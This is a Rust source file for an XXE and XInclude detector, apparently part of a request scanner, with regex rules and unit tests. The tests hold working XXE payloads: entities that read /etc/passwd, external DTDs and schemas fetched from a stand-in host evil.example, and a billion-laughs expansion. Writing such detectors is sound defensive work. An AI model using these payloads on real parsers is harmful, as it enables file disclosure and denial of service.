//! XML external entities and XInclude.
//!
//! - `xxe.external_entity`: an entity declared with `SYSTEM` or `PUBLIC`, general or
//!   parameter (`<!ENTITY % x SYSTEM "http://...">`).
//! - `xxe.external_dtd`: a document type that loads an external DTD (high confidence). Also
//!   an XML Schema `include`, `import`, `redefine` or `override` whose `schemaLocation` is a
//!   URL (medium), and an `xsi:schemaLocation` or `xsi:noNamespaceSchemaLocation` URL (low),
//!   because validating parsers fetch schemas as they fetch a DTD.
//! - `xxe.entity_declaration`: a document type whose internal subset declares entities,
//!   as entity expansion attacks ("billion laughs") do (medium confidence).
//! - `xxe.entity_reference`: a reference to an entity that XML does not predefine, in
//!   markup without a document type (`<text>&systemEntity;</text>`) or as the whole value
//!   (`&xxe;`, `%remote;`), at low confidence. It probes whether the parser expands
//!   entities. Values are decoded before matching, so HTML references such as `&nbsp;`
//!   are gone by then.
//! - `xxe.xinclude`: an XInclude element or namespace.

use regex::bytes::Regex;

use crate::rules::ascii_regex;
use crate::rules::xss::find_ignore_case;

use crate::finding::Confidence;

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct XxeMatch {
    pub rule_id: &'static str,
    pub confidence: Confidence,
    pub at: usize,
}

pub struct XxeRules {
    external_entity: Regex,
    external_dtd: Regex,
    entity_declaration: Regex,
    xinclude: Regex,
    schema_include: Regex,
    schema_location: Regex,
}

impl XxeRules {
    pub fn new() -> Self {
        Self {
            external_entity: ascii_regex(r#"(?i)<!ENTITY\s+(?:%\s*)?[^\s>]+\s+(?:SYSTEM|PUBLIC)\b"#)
                .expect("the external entity pattern is valid"),
            external_dtd: ascii_regex(r#"(?i)<!DOCTYPE\s+[^\s>\[]+\s+(?:SYSTEM|PUBLIC)\s+["']"#)
                .expect("the external DTD pattern is valid"),
            entity_declaration: ascii_regex(r"(?i)<!DOCTYPE[^>\[]{0,256}\[[^\]]{0,4096}?<!ENTITY").expect("the entity pattern is valid"),
            xinclude: ascii_regex(r#"(?i)<[\w.-]*:?include\s[^>]*\bhref\s*=|xmlns(?::[\w.-]+)?\s*=\s*["']https?://www\.w3\.org/2001/XInclude"#)
                .expect("the XInclude pattern is valid"),
            schema_include: ascii_regex(r#"(?i)<[\w.-]*:?(?:include|import|redefine|override)\s[^>]*\bschemaLocation\s*=\s*["']?\s*[a-z][\w+.-]*://"#)
                .expect("the schema include pattern is valid"),
            schema_location: ascii_regex(r#"(?i)\bxsi:(?:noNamespaceSchemaLocation|schemaLocation)\s*=\s*["'][^"']*?\b[a-z][\w+.-]*://"#)
                .expect("the schema location pattern is valid"),
        }
    }

    pub fn detect(&self, text: &str) -> Option<XxeMatch> {
        let bytes = text.as_bytes();
        // The DTD patterns need `<!` and the schema patterns need `schemaLocation`, so a value
        // without them skips those patterns.
        let declaration = memchr::memchr_iter(b'<', bytes).any(|at| bytes.get(at + 1) == Some(&b'!'));
        let schema = find_ignore_case(bytes, b"schemalocation").is_some();
        let checks: [(&Regex, bool, &'static str, Confidence); 6] = [
            (&self.external_entity, declaration, "xxe.external_entity", Confidence::High),
            (&self.external_dtd, declaration, "xxe.external_dtd", Confidence::High),
            (&self.xinclude, true, "xxe.xinclude", Confidence::High),
            (&self.entity_declaration, declaration, "xxe.entity_declaration", Confidence::Medium),
            (&self.schema_include, schema, "xxe.external_dtd", Confidence::Medium),
            (&self.schema_location, schema, "xxe.external_dtd", Confidence::Low),
        ];
        let found =
            checks.into_iter().filter(|(_, needed, _, _)| *needed).find_map(|(regex, _, rule_id, confidence)| {
                regex.find(bytes).map(|found| XxeMatch { rule_id, confidence, at: found.start() })
            });
        if found.is_some() || declaration {
            return found;
        }
        undeclared_entity(bytes).or_else(|| lone_reference(bytes)).map(|at| XxeMatch {
            rule_id: "xxe.entity_reference",
            confidence: Confidence::Low,
            at,
        })
    }
}

/// Entity names that XML predefines.
const PREDEFINED: &[&[u8]] = &[b"lt", b"gt", b"amp", b"quot", b"apos"];

/// Returns where the reference starts when the whole value, spaces aside, is one entity
/// reference: `&name;` for a name XML does not predefine, or a parameter entity `%name;`.
/// Such a value only makes sense to an XML parser that expands it.
pub(crate) fn lone_reference(bytes: &[u8]) -> Option<usize> {
    let trimmed = bytes.trim_ascii();
    let (&sigil, rest) = trimmed.split_first()?;
    let name = rest.strip_suffix(b";")?;
    let starts_name = name.first().is_some_and(|&b| b.is_ascii_alphabetic() || b == b'_');
    let is_name = starts_name && name.iter().all(|&b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-' | b'.'));
    let known = sigil == b'&' && PREDEFINED.contains(&name);
    (matches!(sigil, b'&' | b'%') && is_name && !known).then(|| bytes.len() - bytes.trim_ascii_start().len())
}

/// Returns where a reference to an entity other than the five that XML predefines starts,
/// in a value with markup (`<text>&systemEntity;</text>`).
fn undeclared_entity(bytes: &[u8]) -> Option<usize> {
    memchr::memchr(b'&', bytes)?;
    let markup = memchr::memchr_iter(b'<', bytes).any(|open| bytes.get(open + 1).is_some_and(u8::is_ascii_alphabetic));
    if !markup {
        return None;
    }
    memchr::memchr_iter(b'&', bytes).find(|&at| {
        let name_start = at + 1;
        if !bytes.get(name_start).is_some_and(|&b| b.is_ascii_alphabetic() || b == b'_') {
            return false;
        }
        let mut name_end = name_start;
        while name_end < bytes.len()
            && (bytes[name_end].is_ascii_alphanumeric() || matches!(bytes[name_end], b'_' | b'-' | b'.'))
        {
            name_end += 1;
        }
        let name = &bytes[name_start..name_end];
        bytes.get(name_end) == Some(&b';') && !PREDEFINED.contains(&name)
    })
}

impl Default for XxeRules {
    fn default() -> Self {
        Self::new()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn xxe_cases() {
        let rules = XxeRules::new();
        let attacks = [
            (
                r#"<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>"#,
                "xxe.external_entity",
            ),
            (r#"<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>"#, "xxe.external_entity"),
            (r#"<!DOCTYPE r SYSTEM "http://evil.example/x.dtd"><r/>"#, "xxe.external_dtd"),
            (
                r#"<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;">]><lolz>&lol2;</lolz>"#,
                "xxe.entity_declaration",
            ),
            (
                r#"<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></foo>"#,
                "xxe.xinclude",
            ),
        ];
        for (input, rule) in attacks {
            assert_eq!(rules.detect(input).map(|m| m.rule_id), Some(rule), "input {input:?}");
        }
        for input in
            ["<!DOCTYPE html><html></html>", "<?xml version=\"1.0\"?><order><id>1</id></order>", "ENTITY SYSTEM"]
        {
            assert_eq!(rules.detect(input), None, "input {input:?}");
        }
    }

    #[test]
    fn schema_and_entity_cases() {
        let rules = XxeRules::new();
        let attacks = [
            (
                "schema include of a URL",
                r#"<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema"><xs:include namespace="http://a.example" schemaLocation="http://evil.example/x.xsd"/></xs:schema>"#,
                "xxe.external_dtd",
                Confidence::Medium,
            ),
            (
                "schema import of a file",
                r#"<xsd:import schemaLocation='file:///etc/passwd'/>"#,
                "xxe.external_dtd",
                Confidence::Medium,
            ),
            (
                "instance schema location",
                r#"<x xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://evil.example/"></x>"#,
                "xxe.external_dtd",
                Confidence::Low,
            ),
            (
                "no-namespace schema location",
                r#"<x xsi:noNamespaceSchemaLocation="https://evil.example/x.xsd"/>"#,
                "xxe.external_dtd",
                Confidence::Low,
            ),
            (
                "undeclared entity reference",
                "<change-log> <text>&systemEntity;</text> </change-log>",
                "xxe.entity_reference",
                Confidence::Low,
            ),
            ("lone general entity", "&foo;", "xxe.entity_reference", Confidence::Low),
            ("lone parameter entity", " %remote; ", "xxe.entity_reference", Confidence::Low),
        ];
        let wrong: Vec<_> = attacks
            .iter()
            .map(|(name, input, rule, confidence)| (name, rule, confidence, rules.detect(input)))
            .filter(|(_, rule, confidence, found)| {
                found.map(|m| (m.rule_id, m.confidence)) != Some((**rule, **confidence))
            })
            .collect();
        assert!(wrong.is_empty(), "cases with another result: {wrong:#?}");

        let benign = [
            ("schema include of a relative file", r#"<xs:include schemaLocation="common.xsd"/>"#),
            ("schema location without a URL", r#"<x xsi:schemaLocation="urn:a local.xsd"/>"#),
            ("import element without a schema", r#"<import href="x"/>"#),
            ("predefined entities", "<text>&lt;b&gt; &amp; &quot;x&quot; &apos;</text>"),
            ("entity reference without markup", "Tom &Jerry; show"),
            ("ampersand in query text", "<a>x&y=1;</a>"),
            ("numeric character reference", "<a>&#38;</a>"),
            ("lone predefined entity", "&amp;"),
            ("lone numeric reference", "&#60;"),
            ("percent sign and text", "%50 off;"),
            ("reference among words", "AT&T; call us"),
        ];
        let found: Vec<_> =
            benign.iter().map(|(name, input)| (name, rules.detect(input))).filter(|(_, m)| m.is_some()).collect();
        assert!(found.is_empty(), "near misses that matched: {found:#?}");
    }
}
